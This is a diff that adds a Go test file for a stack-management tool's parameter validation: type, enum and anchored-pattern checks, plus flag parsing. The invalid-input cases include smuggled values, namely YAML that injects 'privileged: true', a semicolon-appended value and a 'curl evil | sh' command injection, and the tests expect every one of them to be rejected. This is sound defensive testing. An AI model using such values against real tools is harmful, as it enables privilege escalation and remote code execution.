@@ -0,0 +1,178 @@
+package stackctl
+
+import (
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+
+	"gopkg.in/yaml.v3"
+)
+
+const testParamsManifest = `
+name: app
+params:
+  - name: title
+    default: App
+  - name: workers
+    type: int
+    default: "2"
+  - name: debug
+    type: bool
+    default: "false"
+  - name: retention
+    type: duration
+    default: 24h
+  - name: level
+    enum: [debug, info, warn]
+    default: info
+  - name: host
+    pattern: '[a-z0-9.-]+'
+    default: localhost
+`
+
+func testParamsModule(t *testing.T) ModuleInfo {
+	t.Helper()
+	var m ModuleInfo
+	if err := yaml.Unmarshal([]byte(testParamsManifest), &m); err != nil {
+		t.Fatal(err)
+	}
+	if err := validateParamSchema(m.Name, m.Params); err != nil {
+		t.Fatal(err)
+	}
+	return m
+}
+
+func TestResolveParams(t *testing.T) {
+	m := testParamsModule(t)
+	if m.Params[0].Type != "string" {
+		t.Errorf("type of title = %q, want string by default", m.Params[0].Type)
+	}
+
+	got, err := m.ResolveParams(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := map[string]any{"title": "App", "workers": 2, "debug": false, "retention": "24h", "level": "info", "host": "localhost"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("defaults = %v, want %v", got, want)
+	}
+
+	got, err = m.ResolveParams(map[string]string{"title": "x y", "workers": "8", "debug": "true", "retention": "90m", "level": "warn", "host": "db.internal"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want = map[string]any{"title": "x y", "workers": 8, "debug": true, "retention": "90m", "level": "warn", "host": "db.internal"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("values = %v, want %v", got, want)
+	}
+}
+
+func TestResolveParamsInvalid(t *testing.T) {
+	m := testParamsModule(t)
+	tests := []struct {
+		values map[string]string
+		err    string
+	}{
+		{map[string]string{"workers": "many"}, `module app param workers: "many" is not an integer`},
+		{map[string]string{"debug": "maybe"}, `module app param debug: "maybe" is not a boolean`},
+		{map[string]string{"retention": "1 day"}, `module app param retention: "1 day" is not a duration`},
+		{map[string]string{"level": "trace"}, `module app param level: "trace" is not one of debug, info, warn`},
+		{map[string]string{"host": "db\n    privileged: true"}, `module app param host: "db\n    privileged: true" does not match [a-z0-9.-]+`},
+		{map[string]string{"host": "x.example.com; evil"}, "does not match"},
+		{map[string]string{"colour": "red"}, `module app has no param "colour" (known: title, workers, debug, retention, level, host)`},
+	}
+	for _, tt := range tests {
+		_, err := m.ResolveParams(tt.values)
+		if err == nil || !strings.Contains(err.Error(), tt.err) {
+			t.Errorf("ResolveParams(%q) err = %v, want %q", tt.values, err, tt.err)
+		}
+	}
+}
+
+func TestValidateParamSchema(t *testing.T) {
+	tests := []struct {
+		name   string
+		params []ModuleParam
+		err    string
+	}{
+		{"no name", []ModuleParam{{Type: "int"}}, "module app: every param needs a name"},
+		{"duplicate", []ModuleParam{{Name: "a"}, {Name: "a"}}, "module app: duplicate param a"},
+		{"unknown type", []ModuleParam{{Name: "a", Type: "float"}}, `module app: param a has unknown type "float" (use string, int, bool, duration)`},
+		{"bad pattern", []ModuleParam{{Name: "a", Pattern: "[a-"}}, "module app: pattern of param a:"},
+		{"default outside enum", []ModuleParam{{Name: "a", Enum: []string{"x"}, Default: "y"}}, `module app: default of param a: "y" is not one of x`},
+		{"default of the wrong type", []ModuleParam{{Name: "a", Type: "int"}}, `module app: default of param a: "" is not an integer`},
+		{"default not matching the pattern", []ModuleParam{{Name: "a", Pattern: "[0-9]+"}}, `module app: default of param a: "" does not match [0-9]+`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := validateParamSchema("app", tt.params)
+			if err == nil || !strings.Contains(err.Error(), tt.err) {
+				t.Errorf("err = %v, want %q", err, tt.err)
+			}
+		})
+	}
+}
+
+func TestParamPatternIsAnchored(t *testing.T) {
+	p := ModuleParam{Name: "a", Type: "string", Pattern: "[a-z]+|[0-9]+"}
+	for raw, ok := range map[string]bool{"abc": true, "123": true, "abc123": false, "abc\n": false, "": false} {
+		if _, err := p.parse(raw); (err == nil) != ok {
+			t.Errorf("parse(%q) err = %v", raw, err)
+		}
+	}
+}
+
+func TestGrafanaPluginsPattern(t *testing.T) {
+	t.Setenv("STACKCTL_TEMPLATES", filepath.Join("..", "..", "templates"))
+	t.Setenv("STACKCTL_STACK_ROOT", t.TempDir())
+	t.Setenv("STACKCTL_MODULE_PATH", "")
+	catalog, err := LoadCatalog()
+	if err != nil {
+		t.Fatal(err)
+	}
+	grafana := catalog["grafana"]
+	for raw, ok := range map[string]bool{
+		"":                                    true,
+		"grafana-clock-panel":                 true,
+		"grafana-clock-panel 2.1.0,redis-app": true,
+		"grafana-clock-panel\n    privileged: true": false,
+		`x" && curl evil | sh`:                      false,
+		"a,,b":                                      false,
+	} {
+		if _, err := grafana.ResolveParams(map[string]string{"plugins": raw}); (err == nil) != ok {
+			t.Errorf("plugins %q: err = %v", raw, err)
+		}
+	}
+}
+
+func TestParseSetFlags(t *testing.T) {
+	got, err := ParseSetFlags([]string{"workers=4", " title =a=b", "host="})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := map[string]string{"workers": "4", "title": "a=b", "host": ""}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("ParseSetFlags = %v, want %v", got, want)
+	}
+	for _, pair := range []string{"workers", "=4", " =4"} {
+		if _, err := ParseSetFlags([]string{pair}); err == nil || !strings.Contains(err.Error(), "expected key=value") {
+			t.Errorf("ParseSetFlags(%q) err = %v", pair, err)
+		}
+	}
+}
+
+func TestParamLines(t *testing.T) {
+	conf := EnabledConfig{Params: map[string]map[string]string{
+		"grafana":    {"plugins": "a,b"},
+		"prometheus": {"retention_days": "30", "interval": "15s"},
+	}}
+	want := []string{
+		"grafana        plugins=a,b",
+		"prometheus     interval=15s",
+		"prometheus     retention_days=30",
+	}
+	if got := ParamLines(conf); !reflect.DeepEqual(got, want) {
+		t.Errorf("ParamLines = %q, want %q", got, want)
+	}
+}